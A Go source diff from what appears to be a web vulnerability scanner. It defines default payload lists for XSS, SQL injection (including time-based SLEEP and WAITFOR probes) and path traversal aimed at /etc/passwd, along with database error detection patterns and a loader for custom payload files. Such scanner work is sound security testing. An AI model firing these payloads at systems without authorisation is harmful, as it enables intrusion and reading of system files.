@@ -0,0 +1,137 @@
+package attack
+
+import (
+	"bufio"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+
+	"gitlab.com/browserker/browserk"
+)
+
+// DefaultPayloads used when no custom payload list exists for a category
+var DefaultPayloads = map[string][]string{
+	browserk.PayloadXSS: {
+		"<script>alert(1)</script>",
+		"\"><img src=x onerror=alert(1)>",
+		"'><svg onload=alert(1)>",
+		"javascript:alert(1)",
+	},
+	browserk.PayloadSQLi: {
+		"'",
+		"\"",
+		"')",
+		"' OR '1'='1",
+		"1' ORDER BY 9999--",
+	},
+	browserk.PayloadSQLiError: {
+		// MySQL
+		`You have an error in your SQL syntax`,
+		`(?i)warning.*mysql_`,
+		`MySqlException`,
+		`valid MySQL result`,
+		// PostgreSQL
+		`PostgreSQL.*ERROR`,
+		`(?i)warning.*\Wpg_`,
+		`unterminated quoted string at or near`,
+		`PSQLException`,
+		// MSSQL
+		`Unclosed quotation mark after the character string`,
+		`Microsoft OLE DB Provider for (ODBC Drivers|SQL Server)`,
+		`(?i)\[SQL Server\]`,
+		`System\.Data\.SqlClient\.SqlException`,
+		// Oracle
+		`\bORA-[0-9]{5}`,
+		`quoted string not properly terminated`,
+		`(?i)oracle error`,
+	},
+	browserk.PayloadSQLiTime: {
+		"' AND SLEEP({delay})-- ",
+		"' AND pg_sleep({delay})-- ",
+		"'; WAITFOR DELAY '0:0:{delay}'-- ",
+		" AND SLEEP({delay})",
+	},
+	browserk.PayloadTraversal: {
+		"../../../../../../etc/passwd",
+		"..\\..\\..\\..\\..\\..\\windows\\win.ini",
+		"....//....//....//....//etc/passwd",
+		"%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+	},
+}
+
+// FilePayloadProvider reads payload lists (one per line) from a directory where each
+// file is named by category (xss.txt, sqli.txt, traversal.txt). Categories without a
+// file fall back to DefaultPayloads.
+type FilePayloadProvider struct {
+	dir      string
+	lock     *sync.RWMutex
+	payloads map[string][]string
+}
+
+// NewFilePayloadProvider for the directory, an empty dir only uses the defaults
+func NewFilePayloadProvider(dir string) *FilePayloadProvider {
+	p := &FilePayloadProvider{
+		dir:      dir,
+		lock:     &sync.RWMutex{},
+		payloads: make(map[string][]string, len(DefaultPayloads)),
+	}
+	for category, payloads := range DefaultPayloads {
+		p.payloads[category] = payloads
+	}
+	return p
+}
+
+// Init loads the payload files from the directory
+func (p *FilePayloadProvider) Init() error {
+	if p.dir == "" {
+		return nil
+	}
+
+	files, err := ioutil.ReadDir(p.dir)
+	if err != nil {
+		return err
+	}
+
+	for _, f := range files {
+		if f.IsDir() || filepath.Ext(f.Name()) != ".txt" {
+			continue
+		}
+		payloads, err := readPayloadFile(filepath.Join(p.dir, f.Name()))
+		if err != nil {
+			return err
+		}
+		category := strings.TrimSuffix(f.Name(), ".txt")
+		p.lock.Lock()
+		p.payloads[category] = payloads
+		p.lock.Unlock()
+	}
+	return nil
+}
+
+// Payloads for the category, returns nil if the category does not exist
+func (p *FilePayloadProvider) Payloads(category string) []string {
+	p.lock.RLock()
+	defer p.lock.RUnlock()
+	return p.payloads[category]
+}
+
+func readPayloadFile(path string) ([]string, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+
+	payloads := make([]string, 0)
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		line := strings.TrimRight(scanner.Text(), "\r")
+		if line == "" {
+			continue
+		}
+		payloads = append(payloads, line)
+	}
+	return payloads, scanner.Err()
+}